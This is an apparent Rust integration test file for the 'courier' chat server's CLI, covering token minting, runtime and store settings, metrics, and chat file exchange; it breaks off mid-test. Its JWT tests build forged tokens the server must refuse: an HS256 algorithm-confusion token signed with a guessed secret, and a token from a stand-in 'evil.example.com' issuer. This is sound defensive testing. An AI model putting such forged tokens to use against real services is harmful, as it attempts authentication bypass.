//! The command line as a person uses it: `courier token`, public-key tokens, the runtime's
//! worker threads, the listener's backlog, the store's cache and writer on `/metrics`, and two
//! `courier chat` sessions exchanging a message and a photo.

mod support;

use courier_client::proto::Encoding;
use courier_client::{Client, ClientError, Target};
use std::io::{BufRead, BufReader, Write};
use std::process::{Child, ChildStdin, Command, Stdio};
use std::sync::mpsc;
use std::time::Duration;
use support::Server;

const WAIT: Duration = Duration::from_secs(60);
const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../../tests/fixtures");

#[tokio::test]
async fn courier_token_mints_tokens_the_server_accepts() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let output = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args([
            "token",
            "--user",
            "alice",
            "--device",
            "phone",
            "--ttl",
            "1h",
            "--data-dir",
        ])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let token = String::from_utf8(output.stdout).unwrap();
    let client = Client::connect(&server.ws_url(), token.trim(), Encoding::Json)
        .await
        .unwrap();
    assert_eq!(client.hello().user, "alice");

    let refused = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args([
            "token",
            "--user",
            "bad user",
            "--device",
            "phone",
            "--data-dir",
        ])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(!refused.status.success(), "invalid user ids are refused");
}

/// A `--ttl` under a second is refused, naming the flag: it printed a token whose `exp` was
/// the second it was made, refused by the server as expired as soon as it was used.
#[test]
fn courier_token_refuses_a_ttl_under_a_second() {
    let dir = tempfile::tempdir().unwrap();
    for ttl in ["0s", "500ms"] {
        let refused = Command::new(env!("CARGO_BIN_EXE_courier"))
            .args([
                "token", "--user", "alice", "--device", "phone", "--ttl", ttl,
            ])
            .args(["--jwt-secret", &"k".repeat(32)])
            .arg("--data-dir")
            .arg(dir.path())
            .output()
            .unwrap();
        let said = String::from_utf8_lossy(&refused.stderr);
        assert!(!refused.status.success(), "{ttl}: {said}");
        assert!(refused.stdout.is_empty(), "{ttl}: no token printed");
        assert!(said.contains("--ttl"), "{ttl}: {said}");
    }
}

/// An id typed wrong is what `courier token` and `courier chat` say, before they look for a
/// secret: with no secret in the data directory, they said only that the secret could not be
/// read, and the person who ran `courier serve` to make one was then told the id was bad.
#[test]
fn a_bad_id_typed_is_named_before_a_missing_secret() {
    let empty = tempfile::tempdir().unwrap();
    for (flag, user, device) in [
        ("--user", "bad user", "phone"),
        ("--device", "alice", "a/b"),
    ] {
        for command in ["token", "chat"] {
            let refused = Command::new(env!("CARGO_BIN_EXE_courier"))
                .args([command, "--user", user, "--device", device, "--data-dir"])
                .arg(empty.path())
                .env_remove("COURIER_TOKEN")
                .env_remove("COURIER_JWT_SECRET")
                .stdin(Stdio::null())
                .output()
                .unwrap();
            let said = String::from_utf8_lossy(&refused.stderr);
            assert!(!refused.status.success(), "{command} {flag}: {said}");
            assert!(
                refused.stdout.is_empty(),
                "{command} {flag}: nothing printed"
            );
            assert!(said.contains(flag), "{command} {flag}: {said}");
            assert!(
                said.contains("1 to 64 characters"),
                "{command} {flag}: {said}"
            );
            assert!(!said.contains("secret"), "{command} {flag}: {said}");
        }
    }
}

/// `--worker-threads` sets how many threads run the roles' tasks (`/metrics` says how many
/// run); zero is refused before anything starts.
#[tokio::test]
async fn worker_threads_sets_the_runtime_and_zero_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    for workers in ["1", "3"] {
        let server = Server::start_in(dir.path(), &["--worker-threads", workers]);
        let running = server.metric("courier_runtime_worker_threads").await;
        assert_eq!(running.to_string(), workers);
    }
    assert_serve_refuses(dir.path(), "--worker-threads", "0");
}

/// `courier serve` with `flag value` exits before anything starts, naming the flag.
fn assert_serve_refuses(dir: &std::path::Path, flag: &str, value: &str) {
    let refused = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args(["serve", flag, value, "--data-dir"])
        .arg(dir)
        .output()
        .unwrap();
    assert!(!refused.status.success(), "{flag} {value} was accepted");
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains(flag), "{stderr}");
}

/// A token secret shorter than 32 bytes would let anyone who guesses it sign tokens for any
/// user (an empty one, anyone at all): `courier serve` refuses one given as `--jwt-secret` or
/// found in the data directory (as an interrupted first start once could leave it), and
/// `courier token` signs nothing with one.
#[test]
fn a_token_secret_shorter_than_thirty_two_bytes_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    assert_serve_refuses(dir.path(), "--jwt-secret", "");
    assert_serve_refuses(
        dir.path(),
        "--jwt-secret",
        "thirty-one-bytes-is-not-enough!",
    );
    std::fs::write(dir.path().join("jwt-secret"), "").unwrap();
    let courier = |args: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_courier"))
            .args(args)
            .arg("--data-dir")
            .arg(dir.path())
            .output()
            .unwrap()
    };
    let token = ["token", "--user", "alice", "--device", "phone"];
    for refused in [courier(&["serve"]), courier(&token)] {
        assert!(!refused.status.success());
        let stderr = String::from_utf8_lossy(&refused.stderr);
        assert!(stderr.contains("jwt-secret holds 0 bytes"), "{stderr}");
    }
}

/// `--store-cache` sizes the embedded store's block cache (`/metrics` says how large; 32 MiB
/// by default); a size that is not one is refused before anything starts.
#[tokio::test]
async fn store_cache_sizes_the_block_cache_and_a_bad_size_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    for (args, bytes) in [
        (&[][..], 32 << 20),
        (&["--store-cache", "1GiB"][..], 1 << 30),
    ] {
        let server = Server::start_in(dir.path(), args);
        let cache = server.metric("courier_store_cache_bytes").await;
        assert_eq!(cache, bytes, "{args:?}");
    }
    assert_serve_refuses(dir.path(), "--store-cache", "lots");
}

/// The texts of the messages in `client`'s catch-up, up to `sync_done`.
async fn caught_up_texts(client: &mut Client) -> Vec<String> {
    use courier_client::proto::{Body, EventPayload};
    let events = client.events_until_sync_done().await.unwrap();
    events
        .into_iter()
        .map(|event| match event.payload {
            EventPayload::Message {
                body: Some(Body::Text(text)),
                ..
            } => text,
            other => panic!("not a text message: {other:?}"),
        })
        .collect()
}

/// A device's catch-up of what it missed reads the recent events from the embedded store's
/// cache (`/metrics` counts the reads it answered and those it did not), and with
/// `--store-event-cache 0` from the store's tables: the same events either way. A size that is
/// not one is refused.
#[tokio::test]
async fn a_catch_up_reads_recent_events_from_the_event_cache_unless_it_is_off() {
    let dir = tempfile::tempdir().unwrap();
    for (args, cached) in [(&[][..], true), (&["--store-event-cache", "0"][..], false)] {
        let data = tempfile::tempdir_in(dir.path()).unwrap();
        let server = Server::start_in(data.path(), args);
        let mut alice = support::connected(&server, "alice", "phone").await;
        for i in 0..3 {
            let text = format!("m{i}");
            alice
                .send_text(Target::User("bob".into()), &format!("c{i}"), &text)
                .await
                .unwrap();
        }
        let mut bob = server.connect("bob", "phone").await;
        let texts = caught_up_texts(&mut bob).await;
        assert_eq!(texts, ["m0", "m1", "m2"], "{args:?}");
        let held = server
            .metric("courier_store_event_cache_held_reads_total")
            .await;
        let missed = server
            .metric("courier_store_event_cache_missed_reads_total")
            .await;
        if cached {
            assert!(held >= 1, "held {held}, missed {missed}");
        } else {
            assert_eq!(held, 0, "missed {missed}");
            assert!(missed >= 1);
        }
    }
    assert_serve_refuses(dir.path(), "--store-event-cache", "lots");
}

/// A server stopped with SIGTERM notes which conversations its cache of recent events holds,
/// and once started again it reads their events back into it: a catch-up right after a
/// restart reads them from memory.
#[tokio::test]
async fn after_a_restart_a_catch_up_reads_the_recent_events_from_memory() {
    let (dir, mut server) = support::start(&[]);
    let mut alice = support::connected(&server, "alice", "phone").await;
    for i in 0..3 {
        let text = format!("r{i}");
        alice
            .send_text(Target::User("bob".into()), &format!("c{i}"), &text)
            .await
            .unwrap();
    }
    drop(alice);
    server.restart();
    assert!(dir.path().join("store/recent-events").exists());
    // The cache warms while the writer has nothing to commit: a catch-up may come first.
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(30);
    loop {
        let mut bob = server.connect("bob", "phone").await;
        assert_eq!(caught_up_texts(&mut bob).await, ["r0", "r1", "r2"]);
        let held = server
            .metric("courier_store_event_cache_held_reads_total")
            .await;
        if held >= 1 {
            break;
        }
        assert!(
            std::time::Instant::now() < deadline,
            "never read from memory"
        );
        tokio::time::sleep(std::time::Duration::from_millis(20)).await;
    }
}

/// `/metrics` tells how much the embedded store's writer works: its time, its group commits
/// and the batches they held, all growing as messages are sent.
#[tokio::test]
async fn the_store_writers_work_is_on_metrics() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let writer = async || {
        (
            server
                .metric_f64("courier_store_writer_busy_seconds_total")
                .await,
            server.metric_f64("courier_store_group_commits_total").await,
            server
                .metric_f64("courier_store_group_commit_batches_total")
                .await,
        )
    };
    let before = writer().await;
    let mut alice = support::connected(&server, "alice", "phone").await;
    for i in 0..3 {
        alice
            .send_text(Target::User("bob".into()), &format!("w{i}"), "hi")
            .await
            .unwrap();
    }
    let (busy, groups, batches) = writer().await;
    assert!(busy > before.0, "busy {busy} after {before:?}");
    assert!(groups >= before.1 + 1.0, "groups {groups} after {before:?}");
    assert!(
        batches >= before.2 + 3.0 && batches >= groups,
        "{batches} batches, {groups} groups"
    );
}

/// `--listen-backlog` sets the client port's `listen(2)` backlog, which the kernel caps at
/// `net.core.somaxconn`; the default asks for the cap, so a gateway's devices reconnecting at
/// once are not dropped past tokio's default of 1,024 (`ss` shows a listener's backlog as its
/// Send-Q).
#[tokio::test]
async fn listen_backlog_sets_the_client_ports_backlog_up_to_the_kernels_cap() {
    let somaxconn: u32 = std::fs::read_to_string("/proc/sys/net/core/somaxconn")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    let dir = tempfile::tempdir().unwrap();
    for (args, asked) in [(&["--listen-backlog", "300"][..], 300), (&[][..], 65_535)] {
        let server = Server::start_in(dir.path(), args);
        let port = server.addr.port();
        let ss = Command::new("ss")
            .args(["-Hltn", &format!("sport = :{port}")])
            .output()
            .expect("ss (iproute2) runs");
        let listing = String::from_utf8_lossy(&ss.stdout);
        let backlog: u32 = listing
            .split_whitespace()
            .nth(2)
            .and_then(|q| q.parse().ok())
            .unwrap_or_else(|| panic!("no listener on port {port} in `{listing}`"));
        assert_eq!(backlog, somaxconn.min(asked), "{args:?}");
    }
}

/// The data directory holds every message (the store's journal and tables) and every
/// uploaded file: what the server creates there is for its own user only, as the token secret
/// is, and not readable by the machine's other users. A directory that already exists keeps
/// the mode its owner gave it.
#[cfg(unix)]
#[tokio::test]
async fn the_data_directory_the_server_creates_is_its_users_alone() {
    use std::os::unix::fs::PermissionsExt;
    let parent = tempfile::tempdir().unwrap();
    let mode =
        |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o777;
    // A data directory the server creates, and one made beforehand, readable by everyone
    // (a volume mounted for it).
    let fresh = parent.path().join("fresh").join("data");
    let existing = parent.path().join("existing");
    std::fs::create_dir(&existing).unwrap();
    std::fs::set_permissions(&existing, std::fs::Permissions::from_mode(0o755)).unwrap();
    for dir in [&fresh, &existing] {
        let _server = Server::start_in(dir, &[]);
        let created = [dir.join("store"), dir.join("media")];
        for path in created.iter().chain((dir == &fresh).then_some(dir)) {
            assert_eq!(
                mode(path) & 0o077,
                0,
                "{}: {:o}",
                path.display(),
                mode(path)
            );
        }
        assert_eq!(mode(&dir.join("jwt-secret")), 0o600);
    }
    assert_eq!(
        mode(&existing),
        0o755,
        "an existing directory keeps its mode"
    );
}

/// A second `courier serve` on a data directory another one serves exits at once, saying that
/// another process has the store open, and the first goes on serving: two writers of one
/// store would lose or corrupt what the first acknowledged.
#[tokio::test]
async fn a_second_server_on_the_same_data_directory_is_refused_clearly() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let second = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args(["serve", "--listen", "127.0.0.1:0", "--data-dir"])
        .arg(dir.path())
        .output()
        .unwrap();
    assert!(!second.status.success(), "a second server started");
    let stderr = String::from_utf8_lossy(&second.stderr);
    assert!(stderr.contains("open in another process"), "{stderr}");
    assert!(
        stderr.contains(&dir.path().display().to_string()),
        "{stderr}"
    );
    let mut alice = support::connected(&server, "alice", "phone").await;
    let sent = alice
        .send_text(Target::User("bob".into()), "m1", "still here")
        .await
        .unwrap();
    assert_eq!(sent.seq, 1);
}

/// The client port serves no admin call, whatever token comes with it, and `courier admin`
/// pointed at it by mistake says which port it wants: it printed "invalid compression flag:
/// 123 ... 404 Not Found (Internal)", the first byte of the API's JSON refusal read as gRPC.
#[tokio::test]
async fn courier_admin_at_a_client_port_is_refused_and_names_the_internal_port() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let token = dir.path().join("cluster-token");
    std::fs::write(&token, "0123456789abcdef0123456789abcdef").unwrap();
    for command in ["nodes", "drain"] {
        let output = Command::new(env!("CARGO_BIN_EXE_courier"))
            .args([
                "admin",
                "--timeout",
                "60s",
                "--node",
                &server.addr.to_string(),
            ])
            .arg("--cluster-token-file")
            .arg(&token)
            .arg(command)
            .output()
            .unwrap();
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(!output.status.success(), "{command}: {stderr}");
        assert!(
            stderr.contains("Unimplemented") && stderr.contains("--internal-listen"),
            "{command}: {stderr}"
        );
    }
    let ready = reqwest::get(format!("{}/readyz", server.http_url()))
        .await
        .unwrap()
        .status();
    assert_eq!(ready, 200, "the node was drained");
    // An upload of that type is the API's.
    let upload = reqwest::Client::new()
        .post(format!("{}/v1/media", server.http_url()))
        .bearer_auth(server.token("alice", "phone"))
        .header("content-type", "application/grpc")
        .body("bytes")
        .send()
        .await
        .unwrap()
        .status();
    assert_eq!(upload, 201);
}

/// The server turns transparent huge pages off for itself (a huge page's first write zeroes
/// 2 MiB on the writing thread, the store's writer among them): the kernel reports it in the
/// process's status.
#[tokio::test]
async fn the_server_runs_without_transparent_huge_pages() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let status = server.proc_status();
    let thp = status
        .lines()
        .find_map(|line| line.strip_prefix("THP_enabled:"))
        .expect("Linux 5.0 or later reports THP_enabled");
    assert_eq!(thp.trim(), "0", "{status}");
}

/// The store flushes and compacts on three fjall workers at least: with two, one spins while
/// the other compacts (`courier_store::embedded`).
#[tokio::test]
async fn the_store_flushes_and_compacts_on_three_workers_at_least() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let workers = server.threads_named("fjall:worker");
    assert!((3..=4).contains(&workers), "{workers} fjall workers");
}

/// `--ordering-threads` runs ordering and delivery on a runtime of their own (`/metrics` says
/// how many threads); with 0 they share the connections' runtime, and messages flow either
/// way.
#[tokio::test]
async fn ordering_threads_set_the_ordering_runtime_and_zero_shares_the_connections() {
    let dir = tempfile::tempdir().unwrap();
    for threads in ["0", "2"] {
        let server = Server::start_in(dir.path(), &["--ordering-threads", threads]);
        let running = server.metric("courier_runtime_ordering_threads").await;
        assert_eq!(running.to_string(), threads);
        let mut alice = support::connected(&server, "alice", "phone").await;
        let mut bob = support::connected(&server, "bob", "phone").await;
        let sent = alice
            .send_text(Target::User("bob".into()), &format!("m{threads}"), "hi")
            .await
            .unwrap();
        let delivered = support::next_event(&mut bob).await;
        assert_eq!(delivered.server_msg_id, sent.server_msg_id);
    }
}

/// Tokens of an identity provider: EdDSA, from either of its keys around a rotation
/// (`--jwt-public-key` with both, comma-separated), for this service only (`--jwt-issuer`,
/// `--jwt-audience`). Its tokens for another service, another issuer's, and
/// HS256 tokens (the secret is not used with public keys) are refused, on the WebSocket
/// upgrade and on the HTTP API alike.
#[tokio::test]
async fn tokens_of_an_identity_provider_are_verified_with_its_keys_issuer_and_audience() {
    let dir = tempfile::tempdir().unwrap();
    let keys =
        format!("{FIXTURES}/jwt-test-ed25519.pub.pem,{FIXTURES}/jwt-test-ed25519-next.pub.pem");
    let server = Server::start_in(
        dir.path(),
        &[
            "--jwt-public-key",
            &keys,
            "--jwt-algorithm",
            "EdDSA",
            "--jwt-issuer",
            "https://id.example.com/",
            "--jwt-audience",
            "chat,chat-staging",
        ],
    );
    let exp = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 600;
    let signed = |private: &str, claims: serde_json::Value| {
        let key = std::fs::read(format!("{FIXTURES}/{private}")).unwrap();
        jsonwebtoken::encode(
            &jsonwebtoken::Header::new(jsonwebtoken::Algorithm::EdDSA),
            &claims,
            &jsonwebtoken::EncodingKey::from_ed_pem(&key).unwrap(),
        )
        .unwrap()
    };
    let claims = |iss: &str, aud: &str| serde_json::json!({ "sub": "alice", "dev": "phone", "exp": exp, "iss": iss, "aud": aud });
    let ours = "https://id.example.com/";
    for private in ["jwt-test-ed25519.pem", "jwt-test-ed25519-next.pem"] {
        let token = signed(private, claims(ours, "chat"));
        Client::connect(&server.ws_url(), &token, Encoding::Json)
            .await
            .unwrap_or_else(|e| panic!("a token of {private} refused: {e}"));
        let listed = conversations_status(&server, &token).await;
        assert_eq!(listed, 200, "{private}");
    }
    let hs256 = jsonwebtoken::encode(
        &jsonwebtoken::Header::default(),
        &claims(ours, "chat"),
        &jsonwebtoken::EncodingKey::from_secret(b"a-guess-of-thirty-two-bytes-or-more"),
    )
    .unwrap();
    for (refused, why) in [
        (
            signed("jwt-test-ed25519.pem", claims(ours, "billing")),
            "another service's",
        ),
        (
            signed(
                "jwt-test-ed25519-next.pem",
                claims("https://evil.example.com/", "chat"),
            ),
            "another issuer's",
        ),
        (hs256, "HS256"),
    ] {
        assert!(
            matches!(
                Client::connect(&server.ws_url(), &refused, Encoding::Json).await,
                Err(ClientError::Rejected(401))
            ),
            "{why}"
        );
        assert_eq!(conversations_status(&server, &refused).await, 401, "{why}");
    }
}

/// An identity provider's key set served over HTTP on loopback: its document can be changed,
/// and it counts the fetches.
struct KeySetServer {
    url: String,
    document: std::sync::Arc<std::sync::Mutex<String>>,
    fetches: std::sync::Arc<std::sync::atomic::AtomicUsize>,
    task: tokio::task::JoinHandle<()>,
}

impl KeySetServer {
    async fn start(keys: &[&str]) -> KeySetServer {
        use std::sync::{Arc, Mutex, atomic::AtomicUsize, atomic::Ordering};
        let document = Arc::new(Mutex::new(key_set(keys)));
        let fetches = Arc::new(AtomicUsize::new(0));
        let (served, counted) = (document.clone(), fetches.clone());
        let app = axum::Router::new().route(
            "/jwks",
            axum::routing::get(move || {
                counted.fetch_add(1, Ordering::SeqCst);
                let body = served.lock().unwrap().clone();
                async move { body }
            }),
        );
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}/jwks", listener.local_addr().unwrap());
        let task = tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });
        KeySetServer {
            url,
            document,
            fetches,
            task,
        }
    }

    fn publish(&self, keys: &[&str]) {
        *self.document.lock().unwrap() = key_set(keys);
    }

    fn fetches(&self) -> usize {
        self.fetches.load(std::sync::atomic::Ordering::SeqCst)
    }
}

/// A JWKS document of the fixture JWKs `names` (`tests/fixtures/<name>.jwk.json`).
fn key_set(names: &[&str]) -> String {
    let keys: Vec<serde_json::Value> = names
        .iter()
        .map(|name| {
            let text = std::fs::read_to_string(format!("{FIXTURES}/{name}.jwk.json")).unwrap();
            serde_json::from_str(&text).unwrap()
        })
        .collect();
    serde_json::json!({ "keys": keys }).to_string()
}

/// An EdDSA token for alice's phone, signed with the fixture key `private` and naming `kid`.
fn token_of_key(private: &str, kid: &str) -> String {
    let key = std::fs::read(format!("{FIXTURES}/{private}")).unwrap();
    let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::EdDSA);
    header.kid = Some(kid.to_owned());
    let exp = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs()
        + 600;
    let claims = serde_json::json!({ "sub": "alice", "dev": "phone", "exp": exp });
    jsonwebtoken::encode(
        &header,
        &claims,
        &jsonwebtoken::EncodingKey::from_ed_pem(&key).unwrap(),
    )
    .unwrap()
}

/// Keys from an identity provider's key set URL (`--jwt-jwks-url`): a token is verified with
/// the key its `kid` names. A token naming a key the set lacks fetches the set again at once,
/// but a stream of them fetches it once (an attacker's made-up `kid`s cannot make the node
/// hammer the provider); a key the provider adds later is taken at the next refresh, with no
/// restart. A node restarted while the provider is down starts on the set it kept. (Several
/// threads: the provider answers while the test waits for the node to start.)
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_identity_providers_key_set_is_fetched_refreshed_and_kept() {
    const OLD: &str = "jwt-test-ed25519";
    const NEXT: &str = "jwt-test-ed25519-next";
    let provider = KeySetServer::start(&[OLD]).await;
    let dir = tempfile::tempdir().unwrap();
    let flags = ["--jwt-jwks-url", &provider.url, "--jwt-jwks-refresh", "10s"];
    let server = Server::start_in(dir.path(), &flags);
    let old = token_of_key("jwt-test-ed25519.pem", "2026-old");
    let next = token_of_key("jwt-test-ed25519-next.pem", "2026-next");
    assert_eq!(conversations_status(&server, &old).await, 200);
    let at_start = provider.fetches();
    assert_eq!(at_start, 1, "one fetch before the node serves");

    // Unknown: fetched again once, whatever the number of such tokens in the next 30 s.
    for _ in 0..5 {
        assert_eq!(conversations_status(&server, &next).await, 401);
    }
    assert_eq!(provider.fetches(), at_start + 1);
    let fetched = r#"courier_token_key_set_fetches_total{outcome="fetched"}"#;
    assert_eq!(server.metric(fetched).await, 2);

    // The provider adds its next key: the node takes it at its next refresh.
    provider.publish(&[OLD, NEXT]);
    let deadline = std::time::Instant::now() + Duration::from_secs(60);
    while conversations_status(&server, &next).await != 200 {
        assert!(
            std::time::Instant::now() < deadline,
            "the new key was never fetched"
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    Client::connect(&server.ws_url(), &next, Encoding::Json)
        .await
        .expect("a token of the new key opens a connection");
    drop(server);

    // The provider down: the node starts on the set it kept, both keys.
    provider.task.abort();
    let _ = provider.task.await;
    let restarted = Server::start_in(dir.path(), &flags);
    for token in [&old, &next] {
        assert_eq!(conversations_status(&restarted, token).await, 200);
    }
    let failed = r#"courier_token_key_set_fetches_total{outcome="failed"}"#;
    assert_eq!(restarted.metric(failed).await, 3, "three attempts at start");
}

/// The status of `GET /v1/conversations` with `token`.
async fn conversations_status(server: &Server, token: &str) -> u16 {
    reqwest::Client::new()
        .get(format!("{}/v1/conversations", server.http_url()))
        .bearer_auth(token)
        .send()
        .await
        .unwrap()
        .status()
        .as_u16()
}

/// A `courier chat` process whose output lines arrive on a channel.
struct Chat {
    child: Child,
    input: ChildStdin,
    lines: mpsc::Receiver<String>,
}

impl Chat {
    fn start(server: &Server, user: &str, peer: &str) -> Chat {
        let mut child = Command::new(env!("CARGO_BIN_EXE_courier"))
            .args([
                "chat",
                "--url",
                &server.ws_url(),
                "--user",
                user,
                "--device",
                "cli",
                "--to",
                peer,
                "--data-dir",
            ])
            .arg(&server.data_dir)
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let input = child.stdin.take().unwrap();
        let output = child.stdout.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(output).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        let mut chat = Chat {
            child,
            input,
            lines,
        };
        chat.expect("connected as");
        chat
    }

    fn say(&mut self, line: &str) {
        writeln!(self.input, "{line}").unwrap();
    }

    /// The first line containing `needle`.
    fn expect(&mut self, needle: &str) -> String {
        loop {
            let line = self
                .lines
                .recv_timeout(WAIT)
                .unwrap_or_else(|_| panic!("no line with {needle:?}"));
            if line.contains(needle) {
                return line;
            }
        }
    }
}

impl Drop for Chat {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// `courier chat` told by a draining server to reconnect says so and exits, while nothing is
/// typed: it waited until the person pressed Enter, its runtime held up by the read of the
/// terminal it had begun.
#[test]
fn a_chat_session_ends_when_its_server_drains_without_waiting_for_a_line() {
    let dir = tempfile::tempdir().unwrap();
    let mut server = Server::start_in(dir.path(), &[]);
    let mut bob = Chat::start(&server, "bob", "alice");
    assert!(server.terminate().success());
    bob.expect("server is draining");
    let mut child = std::mem::replace(&mut bob.child, Command::new("true").spawn().unwrap());
    let (exited, exit) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = exited.send(child.wait());
    });
    let status = exit
        .recv_timeout(WAIT)
        .expect("courier chat exited with its standard input still open")
        .unwrap();
    assert!(status.success(), "{status}");
}

#[test]
fn two_chat_sessions_exchange_a_message_and_a_photo() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let mut bob = Chat::start(&server, "bob", "alice");
    let mut alice = Chat::start(&server, "alice", "bob");
    alice.say("hello bob");
    alice.expect("sent (seq 1)");
    bob.expect("alice: hello bob");

    let photo: Vec<u8> = (0..200_000u32).map(|i| (i % 251) as u8).collect();
    let photo_path = dir.path().join("photo.jpg");
    std::fs::write(&photo_path, &photo).unwrap();
    alice.say(&format!("/send-file {}", photo_path.display()));
    alice.expect("file sent");
    let shared = bob.expect("alice shared photo.jpg");
    assert!(shared.contains("image/jpeg"), "{shared}");
    let (media_id, _) = offered_fetch(&shared);
    let saved = dir.path().join("received.jpg");
    bob.say(&format!("/fetch {media_id} {}", saved.display()));
    bob.expect("saved 200000 bytes");
    assert_eq!(std::fs::read(&saved).unwrap(), photo);
}

/// The media id and file name of the `/fetch MEDIA_ID NAME` a line of `courier chat` offers.
fn offered_fetch(line: &str) -> (String, String) {
    let offered = line.split("/fetch ").nth(1).unwrap();
    let (media_id, name) = offered.split_once(' ').unwrap();
    (media_id.to_owned(), name.to_owned())
}

/// `/fetch` checks the bytes it downloads against what the message that shared them says
/// (their size and SHA-256), and refuses, saving nothing, bytes of another kind (a media store
/// that changed them), and an id no message of the session shared, whose size and SHA-256 it
/// does not know. It saved whatever bytes came as the file the sender shared.
#[test]
fn a_chat_fetch_refuses_bytes_other_than_those_shared() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let mut bob = Chat::start(&server, "bob", "alice");
    let mut alice = Chat::start(&server, "alice", "bob");
    let photo = dir.path().join("photo.jpg");
    std::fs::write(&photo, "the photo alice took").unwrap();
    alice.say(&format!("/send-file {}", photo.display()));
    alice.expect("file sent");
    let (media_id, _) = offered_fetch(&bob.expect("alice shared photo.jpg"));
    // The server's copy changed in place: as long, other bytes.
    for blob in std::fs::read_dir(dir.path().join("media/blobs")).unwrap() {
        std::fs::write(blob.unwrap().path(), "THE PHOTO ALICE TOOK").unwrap();
    }
    let saved = dir.path().join("received.jpg");
    bob.say(&format!("/fetch {media_id} {}", saved.display()));
    let refused = bob.expect("✗");
    assert!(
        refused.contains("not those the message shares"),
        "{refused}"
    );
    assert!(!saved.exists());

    bob.say(&format!("/fetch unshared-id {}", saved.display()));
    let refused = bob.expect("✗");
    assert!(refused.contains("unshared-id"), "{refused}");
    assert!(refused.contains("no message"), "{refused}");
    assert!(!saved.exists());
}

/// `courier chat` as alice with `args`, as it would be run, its input at its end.
fn chat_command(args: &[&str]) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_courier"));
    command
        .args([
            "chat",
            "--log-format",
            "text",
            "--user",
            "alice",
            "--device",
            "cli",
        ])
        .args(args)
        .stdin(Stdio::null());
    command
}

/// `courier chat` run as it would be, its standard error and whether it succeeded.
fn chat_exit(args: &[&str]) -> (String, bool) {
    let output = chat_command(args).output().unwrap();
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    (stderr, output.status.success())
}

/// On a machine with no CA certificates (a minimal container image; here `SSL_CERT_FILE`
/// naming an empty file), `courier chat` cannot build the HTTP client it shares and fetches
/// files with: it says why and exits non-zero. It panicked (`Client::new()`), its fallback to
/// reqwest's default client failing as the configured one had.
#[test]
fn a_chat_without_ca_certificates_says_why_it_cannot_start() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let certificates = dir.path().join("no-certificates.pem");
    std::fs::write(&certificates, "").unwrap();
    let data_dir = dir.path().to_str().unwrap();
    let output = chat_command(&["--url", &server.ws_url(), "--data-dir", data_dir])
        .env("SSL_CERT_FILE", &certificates)
        .env_remove("SSL_CERT_DIR")
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(!output.status.success(), "{said}");
    assert!(!said.contains("panicked"), "{said}");
    assert!(said.contains("CA certificates"), "{said}");
}

/// `courier chat` that cannot start says why, with what to do next, and exits non-zero: a
/// server that is down is named, a token it refuses is called refused, and with no secret to
/// sign with, the flag it names is one `courier chat` takes (it named `--jwt-secret`, which
/// chat refused as an unexpected argument, and said `websocket: IO error` or `HTTP 401` with
/// no server or token named).
#[test]
fn a_chat_that_cannot_start_says_why_and_exits_non_zero() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let url = server.ws_url();

    let empty = tempfile::tempdir().unwrap();
    let empty = empty.path().to_str().unwrap();
    let (said, ok) = chat_exit(&["--url", &url, "--data-dir", empty]);
    assert!(!ok && said.contains("--jwt-secret"), "{said}");
    let secret = std::fs::read_to_string(dir.path().join("jwt-secret")).unwrap();
    let (said, ok) = chat_exit(&["--url", &url, "--data-dir", empty, "--jwt-secret", &secret]);
    assert!(ok, "the secret named is taken: {said}");

    let (said, ok) = chat_exit(&["--url", &url, "--token", "not-a-token"]);
    assert!(!ok, "{said}");
    assert!(said.contains("refused the token"), "{said}");
    assert!(said.contains(&url), "{said}");

